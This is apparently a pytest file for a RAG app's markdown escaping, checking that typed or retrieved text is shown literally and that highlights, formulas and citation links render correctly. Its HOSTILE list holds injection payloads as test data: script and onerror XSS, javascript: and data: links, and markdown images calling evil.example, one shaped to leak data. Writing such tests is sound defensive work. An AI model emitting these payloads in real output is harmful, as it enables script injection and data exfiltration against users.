"""Other people's text on the page: shown as it was typed, with nothing in it alive."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag_app.views.blocks import draw_text
from rag_app.views.markdown import code, escape_text, highlighted, inline, is_formula

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png onerror=alert(1)>",
    "![secret](http://evil.example/leak.png?q=1)",
    "![secret][ref]",
    "[ref]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example>",
    "[1](http://evil.example)",
    "[1]: http://evil.example",
    ":material/delete:",
    ":material_delete:",
    ":streamlit:",
    ":smile: :100:",
    ":red[danger] :red-background[x] :orange-badge[y] :small[z] :help[w]",
    ":color[x]{foreground=red}",
    "::video[x]{src=http://evil.example/v.mp4}",
    ":::note\nx\n:::",
    "$E = mc^2$ and $$\\href{javascript:alert(1)}{x}$$",
    "^footnote^ [^1]",
    "# heading\n===\n---",
    "- item\n1. item\n> quote",
    "    indented code",
    "```mermaid\ngraph TD\n```",
    "~~~\nx\n~~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "&lt;b&gt; &#x3C;",
    "]( ) ]] [[ `` ` ``` \\ \\\\",
    "*a* _b_ **c** __d__ ~~e~~ ==f==",
)
ALIVE = re.compile(r"(?<!\\)(?:!\[|<[a-zA-Z/!]|\]\((?!#cite-)|\]:|:[a-z-]+\[|:::)")


def outside_code(markdown: str) -> str:
    """What is left when code, whose text is never alive, is taken out."""
    fences = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", markdown)
    return re.sub(r"(?<![\\`])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)", "", fences)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_typed_text_is_escaped_whole(text: str) -> None:
    shown = outside_code(escape_text(text))
    assert not re.search(r"(?<!\\)[!\"#$%&'()*+,\-./:;<=>?@\[\]^_`{|}~]", shown.replace("\\\\", ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_document_is_alive(text: str) -> None:
    for shown in (inline(text.replace("\n", " ")), draw_text(text), draw_text(text, mark=(0, len(text)))):
        allowed = outside_code(shown).replace(":yellow-background[", "")
        assert not ALIVE.search(allowed), shown


@given(st.text(max_size=80))
def test_any_text_read_back_is_what_was_typed(text: str) -> None:
    label = escape_text(text, breaks=False)
    plain = re.sub(r"\\([!-/:-@\[-`{-~])|`", lambda found: found[1] or "", label)
    assert plain == " ".join(text.split()).replace("`", "") or "`" in text


@given(st.text(alphabet="ab가 *`$[]()!<>:_|#-\\\n1.http/@~", max_size=60), st.integers(0, 60), st.integers(0, 60))
def test_no_mixture_of_marks_gets_anything_through(text: str, start: int, length: int) -> None:
    shown = outside_code(draw_text(text, mark=(start, start + length))).replace(":yellow-background[", "")
    assert not re.search(r"(?<!\\)(?:!\[|<[a-z]|\]\(|\]:)", shown.replace("\\\\", "")), shown


def test_addresses_and_icon_names_stand_as_code_because_escapes_do_not_stop_them() -> None:
    assert escape_text("http://a.example/x :smile: a@b.kr") == "`http://a.example/x` `:smile:` `a@b.kr`"
    assert escape_text("10:30:45 비고:없음") == "10\\:30\\:45 비고\\:없음"


def test_what_was_typed_keeps_its_lines_and_indentation() -> None:
    assert escape_text("가\n  나\n\n다") == "가  \n\xa0\xa0나\n\n다"


def test_bold_closes_between_a_bracket_and_a_particle() -> None:
    """CommonMark leaves `**학습률(lr)**은` as it stands: the closing marks follow a bracket and precede a letter."""
    assert inline("**학습률(lr)**은 작다") == "**\u2060학습률\\(lr\\)\u2060**은 작다"


def test_links_show_their_words_and_web_addresses_as_code() -> None:
    assert inline("[제9조](leave.md#9) 참고") == "제9조 참고"
    assert inline("[문서](https://a.example/d)") == "문서 (`https://a.example/d`)"
    assert inline("![그림 1](fig.png)") == "그림 1"


def test_only_marks_with_a_citation_become_links() -> None:
    link = {1: "#cite-t-1"}.get
    assert inline("맞다. [1] 아니다. [2]", link) == "맞다\\.\xa0[1](#cite-t-1) 아니다\\. \\[2\\]"
    assert inline("`a[1]` [1]", link) == "`a[1]`\xa0[1](#cite-t-1)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("$x^2$", "$x^2$"),
        ("$\\theta$와", "$\\theta$와"),
        ("$5 and $10", "\\$5 and \\$10"),
        ("가격은 $5, 할인가는 $4다", "가격은 \\$5\\, 할인가는 \\$4다"),
    ],
)
def test_formulas_are_drawn_and_prices_are_not(text: str, shown: str) -> None:
    assert inline(text) == shown


def test_prose_between_dollar_signs_is_no_formula() -> None:
    assert is_formula("\\frac{1}{2}")
    assert is_formula("BA")
    assert not is_formula("PATH")
    assert not is_formula("을 내고 돌려")


def test_the_passage_is_highlighted_inside_its_line() -> None:
    assert draw_text("앞말. 인용한 말. 뒷말.", mark=(4, 11)) == "앞말\\. :yellow-background[인용한 말\\.] 뒷말\\."


def test_a_highlight_covers_each_line_list_item_and_cell_it_touches() -> None:
    text = "- 하나\n- 둘\n\n| 가 | 나 |\n|---|---|\n| 다 | 라 |"
    shown = draw_text(text, mark=(text.index("둘"), text.index("라") + 1))
    assert "- 하나" in shown
    for word in ("둘", "가", "나", "다", "라"):
        assert f":yellow-background[{word}]" in shown


def test_a_bracket_inside_a_highlight_does_not_end_it() -> None:
    assert highlighted("a[0] :red[x] `b]`") == ":yellow-background[a\\[0\\] \\:red\\[x\\] \\`b\\]\\`]"


def test_highlighted_code_is_drawn_line_by_line() -> None:
    text = "```python\nx = 1\ny = 2\n```"
    assert ":yellow-background[`y = 2`]" in draw_text(text, mark=(text.index("y"), text.index("2") + 1))


def test_code_without_highlight_stays_a_block_and_mermaid_draws_nothing() -> None:
    assert draw_text("```python\n# 제목 아님\n```") == "```python\n# 제목 아님\n```"
    assert draw_text("```mermaid\ngraph TD\n```") == "```\ngraph TD\n```"


def test_code_that_holds_backticks_cannot_end_early() -> None:
    assert code("a`b") == "``a`b``"
    assert draw_text("````\n```\n<b>\n````").startswith("````\n```\n<b>\n````")


def test_a_sub_item_without_its_parent_is_no_block_of_code() -> None:
    assert draw_text("        - 하위 항목") == "- 하위 항목"
